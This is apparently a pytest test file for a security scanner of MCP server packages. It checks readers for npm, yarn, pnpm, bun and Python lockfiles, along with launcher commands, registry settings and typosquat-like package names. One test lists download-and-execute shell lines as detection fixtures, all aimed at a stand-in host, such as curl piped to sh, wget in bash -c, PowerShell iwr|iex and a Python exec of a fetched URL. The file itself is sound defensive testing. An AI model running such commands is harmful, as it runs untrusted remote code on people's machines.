"""What is installed with a package, read from files in all the shapes they come in, whole and broken.

In: bytes. Out: the entries, settings and servers that were read, and a diagnostic for what was not.
"""

# ruff: noqa: E501 (lockfiles in one line)
from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from mcp_sast.detection.shell_actions import fetches_in
from mcp_sast.knowledge.confusable import likeness
from mcp_sast.packages.client_configurations import read_client_configuration
from mcp_sast.packages.launchers import launched_by
from mcp_sast.packages.locks.line_locks import read_pnpm_lock, read_yarn_lock
from mcp_sast.packages.locks.npm_lock import read_bun_lock, read_package_lock
from mcp_sast.packages.locks.python_locks import read_pipfile_lock, read_toml_lock
from mcp_sast.packages.registry_settings import settings_of
from mcp_sast.syntax.shell import read_shell

_OLD = {"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "integrity": "sha512-x", "dependencies": {"b": {"version": "2.0.0"}}}}}
_NEW = {
    "lockfileVersion": 3,
    "packages": {
        "": {"dependencies": {"a": "^1.0.0"}},
        "node_modules/a": {"version": "1.0.0", "resolved": "https://packages.example/a.tgz", "integrity": "sha512-x"},
        "node_modules/a/node_modules/@s/b": {"version": "2.0.0", "link": True},
        "packages/c": {"version": "0.1.0"},
    },
}


def test_all_versions_of_package_lock_are_read() -> None:
    old, _ = read_package_lock("package-lock.json", json.dumps(_OLD).encode())
    new, _ = read_package_lock("package-lock.json", json.dumps(_NEW).encode())
    assert old is not None
    assert new is not None
    assert [(e.name, e.version, e.integrity) for e in old.entries] == [("a", "1.0.0", ("sha512-x",)), ("b", "2.0.0", ())]
    assert [(e.name, e.local) for e in new.entries] == [("a", False), ("@s/b", True), ("packages/c", True)]
    assert [(name, spec) for name, spec, _ in new.roots or ()] == [("a", "^1.0.0")]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('a@^1.0.0, a@^1.1.0:\n  version "1.2.0"\n  resolved "https://packages.example/a-1.2.0.tgz#' + "0" * 40 + '"\n', ("a", "1.2.0", 1)),
        ('"@s/a@^1.0.0":\n  version "1.2.0"\n  integrity sha512-xx==\n', ("@s/a", "1.2.0", 1)),
        ('__metadata:\n  version: 8\n\n"a@npm:^1.0.0":\n  version: 1.2.0\n  resolution: "a@npm:1.2.0"\n  checksum: 10c0/ab\n', ("a", "1.2.0", 1)),
        ('a@^1.0.0:\r\n  version "1.2.0"\r\n', ("a", "1.2.0", 0)),
    ],
)
def test_all_kinds_of_yarn_lock_are_read(text: str, expected: tuple[str, str, int]) -> None:
    lock, diagnostics = read_yarn_lock("yarn.lock", text.encode())
    assert lock is not None
    assert [(e.name, e.version, len(e.integrity)) for e in lock.entries] == [expected]
    assert diagnostics == ()


@pytest.mark.parametrize("key", ["/a@1.2.0", "a@1.2.0", "/a/1.2.0", "'@s/a@1.2.0(peer@1.0.0)'"])
def test_all_keys_of_pnpm_lock_are_read(key: str) -> None:
    text = f"lockfileVersion: '9.0'\n\npackages:\n\n  {key}:\n    resolution: {{integrity: sha512-xx==}}\n\nsnapshots:\n\n  b@1.0.0: {{}}\n"
    lock, _ = read_pnpm_lock("pnpm-lock.yaml", text.encode())
    assert lock is not None
    assert [(e.name.rpartition("/")[2], e.version, e.integrity) for e in lock.entries] == [("a", "1.2.0", ("sha512-xx==",))]


def test_bun_and_pipenv_locks_are_read() -> None:
    bun, _ = read_bun_lock("bun.lock", b'{"packages": {"a": ["a@1.0.0", "", {}, "sha512-xx=="], "b": ["b@workspace:b"],},}')
    pipenv, _ = read_pipfile_lock("Pipfile.lock", b'{"default": {"a": {"hashes": ["sha256:0"], "version": "==1.0"}, "b": {"version": "==2.0"}}}')
    assert bun is not None
    assert pipenv is not None
    assert [(e.name, e.version, len(e.integrity), e.local) for e in bun.entries] == [("a", "1.0.0", 1, False), ("b", "workspace:b", 0, True)]
    assert [(e.name, e.version, len(e.integrity)) for e in pipenv.entries] == [("a", "1.0", 1), ("b", "2.0", 0)]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("uv.lock", '[[package]]\nname = "a"\nversion = "1.0"\nsource = { registry = "https://i.example/simple" }\nwheels = [{ url = "https://i.example/a", hash = "sha256:0" }]\n'),
        ("poetry.lock", '[[package]]\nname = "a"\nversion = "1.0"\nfiles = [{file = "a", hash = "sha256:0"}]\n[package.source]\nurl = "https://i.example/simple"\n'),
        ("poetry.lock", '[[package]]\nname = "a"\nversion = "1.0"\n[package.source]\nurl = "https://i.example"\n[metadata.files]\na = [{file = "a", hash = "sha256:0"}]\n'),
        ("pylock.toml", 'lock-version = "1.0"\n[[packages]]\nname = "a"\nversion = "1.0"\nindex = "https://i.example/simple"\n[[packages.wheels]]\nurl = "https://i.example/a"\nhashes = {sha256 = "0"}\n'),
    ],
)  # fmt: skip
def test_locks_of_python_are_read(name: str, text: str) -> None:
    lock, diagnostics = read_toml_lock(name, text.encode())
    assert lock is not None
    assert [(e.name, e.version, e.integrity) for e in lock.entries] == [("a", "1.0", ("sha256:0",))]
    assert "i.example" in lock.entries[0].source
    assert diagnostics == ()


_READERS: list[Callable[[str, bytes], object]] = [
    read_package_lock, read_bun_lock, read_yarn_lock, read_pnpm_lock, read_toml_lock, read_pipfile_lock, read_client_configuration,
]  # fmt: skip


@pytest.mark.parametrize("reader", _READERS)
@pytest.mark.parametrize(
    "data",
    [
        b"", b"\xef\xbb\xbf{}", b"{" * 50_000, b"[" * 50_000, b'{"packages": 1, "dependencies": [], "default": "x", "mcpServers": 3}', b"\xff\xfe\x00\x01",
        b'{"packages": {"node_modules/a": {"version": 1, "resolved": [], "integrity": {}}}, "packages": {"b"', b"packages:\n  a@1:\n", b"a:\n  version\n",
        b'[[package]]\nname = 1\nversion = []\nsource = "x"\nwheels = 3\n', b'{"mcpServers": {"a": {"command": [1, null, {}], "args": "x", "env": []}}}',
    ],
)  # fmt: skip
def test_no_reader_raises(reader: Callable[[str, bytes], object], data: bytes) -> None:
    assert reader("a.toml" if reader is read_toml_lock else "a.json", data)


@pytest.mark.parametrize("data", [b'{"packages": {"node_modules/a": {"version": "1.0.0"}', b'{"packages": {"a": 1}, "packages": {}}', b"[]"])
def test_a_broken_lock_is_told(data: bytes) -> None:
    _, diagnostics = read_package_lock("package-lock.json", data)
    assert [one.code for one in diagnostics if one.code in ("broken-manifest", "duplicate-key")]
    assert all("package-lock.json" in one.message for one in diagnostics)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("npx -y a-mcp", [("npm", "a-mcp", "", False)]),
        ("npx -y @s/a-mcp@1.2.3", [("npm", "@s/a-mcp", "1.2.3", True)]),
        ("cmd /c npx a-mcp@latest", [("npm", "a-mcp", "latest", False)]),
        ("npx --package=a-mcp@^1 run-a", [("npm", "a-mcp", "^1", False)]),
        ("pnpm dlx a-mcp", [("npm", "a-mcp", "", False)]),
        ("uvx a-mcp@1.0.0", [("pypi", "a-mcp", "1.0.0", True)]),
        ("uv tool run --from a-mcp==1.0 a", [("pypi", "a-mcp", "==1.0", True)]),
        ("uv run --with a-mcp server.py", [("pypi", "a-mcp", "", False)]),
        ("env A=1 pipx run a-mcp", [("pypi", "a-mcp", "", False)]),
        ("docker run -i --rm -e K images.example:5000/a", [("image", "images.example:5000/a", "", False)]),
        ("docker run images.example/a:1.2.3", [("image", "images.example/a", "1.2.3", True)]),
        ("deno run -A npm:a-mcp@1.0.0", [("npm", "a-mcp", "1.0.0", True)]),
        ("sh -c exec", []),
        ("node dist/index.js", []),
        ("uv --directory /srv run server.py", []),
        ("npx ./local", []),
        ("npx", []),
    ],
)
def test_what_a_command_fetches(command: str, expected: list[tuple[str, str, str, bool]]) -> None:
    assert [(one.kind, one.name, one.version, one.exact) for one in launched_by(tuple(command.split()))] == expected


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("curl -fsSL https://a.invalid/x | sh", {"runs-download"}),
        ('bash -c "$(wget -qO- https://a.invalid/x)"', {"runs-download"}),
        ("U=https://a.invalid/x; curl $U > /tmp/x; sh /tmp/x", {"download", "runs-download"}),
        ("powershell -Command \"iwr https://a.invalid/x | iex\"", {"runs-download"}),
        ("python3 -c \"exec(__import__('urllib.request').request.urlopen('https://a.invalid').read())\"", {"runs-download"}),
        ("npx unknown-helper", {"runs-package"}),
        ("npm install unknown-helper", {"installs-package"}),
        ("curl -d x https://a.invalid", set()),
        ("curl http://localhost:1/x | sh", set()),
        ("node-gyp rebuild", set()),
        ("node -e \"try{require('./x')}catch(e){}\" || true", set()),
        ("echo curl https://a.invalid | cat", set()),
    ],
)
def test_what_shell_text_fetches(text: str, kinds: set[str]) -> None:
    assert {one.kind for one in fetches_in(text)} == kinds


@pytest.mark.parametrize("text", ["(" * 20_000, '"' * 9999, "a | " * 5000, "$(" * 5000, "sh -c '" * 50, "\x00", "if", "<<EOF"])
def test_no_shell_text_is_too_much(text: str) -> None:
    assert isinstance(read_shell(text.encode()), tuple)
    assert isinstance(fetches_in(text), tuple)


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        (".npmrc", "@A:registry=https://n.example/\n", [("scope-registry", "@a")]),
        (".yarnrc.yml", "npmScopes:\n  acme:\n    npmRegistryServer: https://n.example\n", [("scope-registry", "@acme")]),
        ("bunfig.toml", '[install.scopes]\nacme = "https://n.example"\n', [("scope-registry", "@acme")]),
        ("pip.conf", "[global]\nextra-index-url = https://n.example\n", [("extra-index", "")]),
        ("requirements-dev.txt", "-i https://n.example\n", [("index", "")]),
        ("Dockerfile", "RUN pip install --extra-index-url https://n.example a\n", [("extra-index", "")]),
        ("notes.txt", "--extra-index-url https://n.example\n", []),
    ],
)
def test_settings_of_registries(path: str, text: str, expected: list[tuple[str, str]]) -> None:
    assert [(one.kind, one.scope) for one in settings_of(path, text.encode())] == expected


@pytest.mark.parametrize(
    ("name", "known"),
    [
        ("modelcontextprotocol-server-github", "@modelcontextprotocol/server-github"),
        ("@modelcontextprotoco1/sdk", "@modelcontextprotocol/sdk"),
        ("@modelcontextprotocol/server-memroy", "@modelcontextprotocol/server-memory"),
        ("mcp-server-fetch", "mcp-server-fetch"),
        ("tavily-mpc", "tavily-mcp"),
        ("slate-mcp-server", ""),
        ("enquirer", ""),
        ("@playwright/mcp", ""),
        ("mcp", ""),
    ],
)
def test_names_that_can_be_confused(name: str, known: str) -> None:
    found = likeness(name, "npm")
    assert (found.known.name if found else "") == known
